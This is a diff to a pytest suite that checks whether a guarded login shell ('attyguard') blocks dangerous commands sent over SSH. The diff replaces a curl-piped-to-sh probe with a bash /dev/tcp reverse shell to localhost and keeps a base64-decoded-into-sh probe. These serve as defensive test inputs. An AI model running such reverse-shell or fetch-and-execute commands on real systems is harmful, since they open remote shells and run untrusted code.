@@ -96,24 +96,25 @@ def test_git_clone_and_push_over_ssh(sshd: Sshd, tmp_path: Path) -> None:
 
 # Decodes to `echo decoded-ran`: harmless, and visible on stdout if it ever runs.
 DECODED_TO_SHELL = "echo ZWNobyBkZWNvZGVkLXJhbgo= | base64 -d | sh"
-# The issue's example; the download never happens (.invalid never resolves, and
-# the line only runs if the guard fails).
-CURL_TO_SHELL = "curl http://example.invalid/x | sh"
+# A reverse shell to a closed local port: refused by the engine, harmless if it ever ran.
+REVERSE_SHELL = "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"
 
 
 def _need_verdict(sshd: Sshd, probe: str, action: str) -> None:
-    """Skip unless the shell under test is attyguard and its engine says `action` for `probe`."""
+    """Skip for the control shell; for attyguard, the engine must say `action` for `probe`.
+
+    The rules ship with the product, so a different verdict is a failure, not a skip.
+    """
     if sshd.user.shell.name != "attyguard":
         pytest.skip("the control shell (bash) guards nothing")
     said = engine_verdict(probe)
-    if said.action != action:
-        pytest.skip(f"the engine does not {action} `{probe}` yet (attyguard check: {said.text})")
+    assert said.action == action, f"attyguard check `{probe}`: {said.text}"
 
 
 @pytest.mark.parametrize(
     ("line", "probe"),
-    [(CURL_TO_SHELL, "curl http://x/y | sh"), (DECODED_TO_SHELL, DECODED_TO_SHELL)],
-    ids=["curl-pipe-sh", "decoded-into-sh"],
+    [(REVERSE_SHELL, REVERSE_SHELL), (DECODED_TO_SHELL, DECODED_TO_SHELL)],
+    ids=["reverse-shell", "decoded-into-sh"],
 )
 def test_ssh_blocked_command_is_refused_without_running(sshd: Sshd, line: str, probe: str) -> None:
     _need_verdict(sshd, probe, "block")
